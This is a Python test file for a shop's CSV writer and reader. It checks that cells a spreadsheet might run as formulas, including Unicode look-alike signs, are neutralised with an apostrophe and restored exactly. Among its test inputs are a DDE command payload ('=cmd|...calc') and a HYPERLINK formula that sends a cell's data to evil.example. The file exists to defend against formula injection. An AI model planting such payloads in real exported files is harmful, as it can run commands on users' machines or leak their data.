"""Tables that a spreadsheet shows and never runs, and that are read back as they were."""

import csv as standard
import io
import sys
import unicodedata
from decimal import Decimal

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from shop import csv

texts = st.text(st.characters(exclude_categories=["Cs"]))
hostile = st.builds(
    "".join,
    st.tuples(
        st.text(st.sampled_from("' \t\r\n\u00a0\u200b\ufeff"), max_size=4),
        st.sampled_from([*"=+-@\uff1d\uff0b\uff0d\uff20\u2212\ufe66", ""]),
        texts,
    ),
)


def table(rows):
    return "".join(csv.written(rows))


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.example?x="&A1,"click")',
        "+1",
        "-1",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1",
        "\tplain behind a tab",
        "\rplain behind a return",
        "\nplain behind a line's end",
        "  =1",
        "\u00a0=1",
        "\u3000=1",
        "\ufeff=1",
        "\u200b=1",
        "\u202e=1",
        "\x00=1",
        "\uff1d1",
        "\uff0b1",
        "\uff0d1",
        "\uff201",
        "\ufe661",
        "\u22121",
        "'=1",
        "''  =1",
    ],
)
def test_what_could_be_a_formula_is_written_behind_an_apostrophe(text):
    assert csv.neutralised(text) == f"'{text}"
    assert csv.restored(f"'{text}") == text


def test_every_letter_that_is_a_sign_of_a_formula_in_other_clothes_is_known():
    letters = [chr(number) for number in range(sys.maxunicode + 1) if not 0xD800 <= number <= 0xDFFF]
    disguised = [letter for letter in letters if unicodedata.normalize("NFKC", letter)[0] in "=+-@"]

    assert len(disguised) >= 19
    assert [letter for letter in disguised if csv.neutralised(letter) == letter] == []


@pytest.mark.parametrize(
    "text",
    ["", "Mug", "a=b", "1-2", "prod_001", "'tis", "'", "''", "2026-02-09", "a\t=1", "\U0001f600", '"=1"'],
)
def test_any_other_text_is_written_as_it_is(text):
    assert csv.neutralised(text) == text
    assert csv.restored(text) == text


@given(texts | hostile)
@example("'=")
def test_reading_a_cell_undoes_exactly_what_writing_did(text):
    assert csv.restored(csv.neutralised(text)) == text


@given(texts | hostile)
def test_no_cell_looks_like_a_formula_however_it_is_spelled(text):
    cell = csv.neutralised(text)
    plain = unicodedata.normalize("NFKC", cell).lstrip(" \t\r\n\x00\u200b\ufeff")

    assert not cell.startswith(("\t", "\r", "\n"))
    assert not plain.startswith(("=", "+", "-", "@"))


@given(st.lists(st.lists(texts | hostile, min_size=1, max_size=4), max_size=5))
def test_a_table_of_texts_is_read_back_as_it_was(rows):
    assert list(csv.read(io.StringIO(table(rows), newline=""))) == rows


@given(st.lists(texts | hostile, min_size=1, max_size=4))
def test_a_table_is_plain_csv_to_others(row):
    (read,) = standard.reader(io.StringIO(table([row]), newline=""), strict=True)

    assert read == [csv.neutralised(text) for text in row]


def test_a_record_ends_as_rfc_4180_has_it_and_quotes_where_it_must():
    rows = [["name", "note"], ['MacBook Pro 16"', "a,b"], ["two\r\nlines", ""]]

    assert table(rows) == 'name,note\r\n"MacBook Pro 16""","a,b"\r\n"two\r\nlines",\r\n'


def test_numbers_of_ours_stay_numbers():
    assert table([[-5, Decimal("-0.10"), Decimal("1E+3"), Decimal("12.50"), 0, None]]) == (
        "-5,-0.10,1000,12.50,0,\r\n"
    )


@pytest.mark.parametrize("value", [True, 1.5, Decimal("NaN"), Decimal("Infinity"), b"x", ["x"]])
def test_what_has_no_exact_form_is_an_error(value):
    with pytest.raises(TypeError, match="has no cell of its own"):
        table([[value]])


def test_rows_are_written_one_by_one():
    def endless():
        while True:
            yield ["x"]

    assert next(csv.written(endless())) == "x\r\n"


@pytest.mark.parametrize("text", ['"open', '"a"b'])
def test_what_is_no_csv_is_an_error(text):
    with pytest.raises(standard.Error):
        list(csv.read([text]))
